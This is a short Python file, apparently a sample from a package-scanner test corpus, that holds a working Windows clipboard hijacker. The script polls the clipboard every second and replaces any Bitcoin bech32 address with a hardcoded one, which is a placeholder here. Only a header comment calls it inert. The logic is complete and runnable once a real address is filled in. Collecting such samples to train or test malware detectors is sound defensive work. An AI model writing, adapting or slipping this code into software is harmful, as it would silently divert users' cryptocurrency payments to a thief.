# pkgguard corpus 327 (clipboard), modelled on [wallet-tools]; inert, never run.
import ctypes
import re
import time

user32 = ctypes.windll.user32
kernel32 = ctypes.windll.kernel32
CF_UNICODETEXT = 13
OURS = "bc1q000000000000000000000000000000000placeholder"
BECH32 = re.compile(r"^bc1[ac-hj-np-z02-9]{11,71}$")


def swap():
    user32.OpenClipboard(0)
    try:
        handle = user32.GetClipboardData(CF_UNICODETEXT)
        text = ctypes.wstring_at(kernel32.GlobalLock(handle)) if handle else ""
        kernel32.GlobalUnlock(handle)
        if BECH32.match(text):
            data = kernel32.GlobalAlloc(0x0042, (len(OURS) + 1) * 2)
            ctypes.memmove(kernel32.GlobalLock(data), OURS, (len(OURS) + 1) * 2)
            kernel32.GlobalUnlock(data)
            user32.EmptyClipboard()
            user32.SetClipboardData(CF_UNICODETEXT, data)
    finally:
        user32.CloseClipboard()


while True:
    swap()
    time.sleep(1)
